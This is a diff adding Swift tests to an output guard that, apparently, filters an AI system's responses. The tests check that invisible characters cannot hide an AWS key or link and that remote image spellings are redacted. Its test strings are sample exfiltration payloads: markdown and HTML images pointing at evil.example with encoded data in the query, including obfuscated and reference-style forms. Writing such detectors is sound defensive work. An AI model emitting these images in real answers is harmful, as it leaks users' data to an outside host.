@@ -80,6 +80,47 @@ struct GuardTests {
         #expect(guards.evaluate("see https://example.com/search?q=weather", .output).findings.isEmpty)
     }
 
+    /// Invisible characters are removed on the way out; the scanners must see the text
+    /// as it will be read, or a zero-width space hides a key or a live link.
+    @Test func invisibleCharactersCannotSplitAKeyOrALink() {
+        let key = guards.evaluate("the key is AKIA\u{200B}IOSFODNN7EXAMPLE, ok", .output)
+        #expect(key.text == "the key is [REDACTED AWS access key], ok")
+        let link = guards.evaluate("![p](ht\u{200B}tps://evil.example/p.png?d=c2VjcmV0) done", .output)
+        #expect(link.text == "[REDACTED markdown image with a remote URL] done")
+        let joined = guards.evaluate("x \u{200D}AKIAIOSF\u{2060}ODNN7EXAMPLE\u{FEFF}!", .output)
+        #expect(joined.text == "x [REDACTED AWS access key]!", "\(joined.text)")
+    }
+
+    @Test func everyRemoteImageSpellingIsRedacted() {
+        let images = [
+            "![x](//evil.example/p.png?d=1)", "![x](\\\\evil.example/p.png)", "![x](https:\\\\evil.example/p.png)",
+            "![x]( <HTTPS://evil.example/p.png> )", "![a [b] c](ftp://evil.example/p)", "<img alt=x src=//evil.example/p.png>",
+            "<IMG SRC=\"https://evil.example/p.png\">", "<img srcset=\"a.png 1x, //evil.example/p.png 2x\">",
+            "<img src=\"&#104;ttps://evil.example/p.png\">",
+        ]
+        for image in images {
+            let verdict = guards.evaluate("see \(image) end", .output)
+            #expect(verdict.categories == [.exfiltration], "\(image)")
+            #expect(!verdict.text.contains("evil"), "\(image): \(verdict.text)")
+        }
+        for local in ["![x](images/p.png)", "![x](/static/p.png)", "![x](data:image/png;base64,AAAA)", "<img src=\"p.png\">"] {
+            #expect(guards.evaluate("see \(local) end", .output).findings.isEmpty, "\(local)")
+        }
+    }
+
+    @Test func referenceStyleImagesAreMatchedToTheirDefinitions() {
+        let answer = "Chart: ![chart][r] and more.\n\n[r]: https://evil.example/p.png?d=c2VjcmV0\n"
+        let verdict = guards.evaluate(answer, .output)
+        #expect(!verdict.text.contains("evil.example"), "\(verdict.text)")
+        #expect(Set(verdict.findings.map(\.kind)) == ["markdown image reference to a remote URL", "link definition an image may use"])
+        let shortcut = guards.evaluate("![Logo]\n\n[logo]:  //evil.example/l.png", .output)
+        #expect(!shortcut.text.contains("evil.example"))
+        // Links (a click away) keep their definitions; a local image's definition is fine.
+        let links = "Read [the docs][1] and [faq].\n\n[1]: https://docs.example/guide\n[faq]: https://docs.example/faq\n"
+        #expect(guards.evaluate(links, .output).findings.isEmpty)
+        #expect(guards.evaluate("![x][p]\n\n[p]: images/p.png", .output).findings.isEmpty)
+    }
+
     @Test func actionsComeFromPolicy() throws {
         let policy = try SecurityPolicy(json: #"{"guards": {"input": {"injection": "block"}, "output": {"pii": "redact"}}}"#)
         let strict = GuardPipeline(policy: policy.guards)
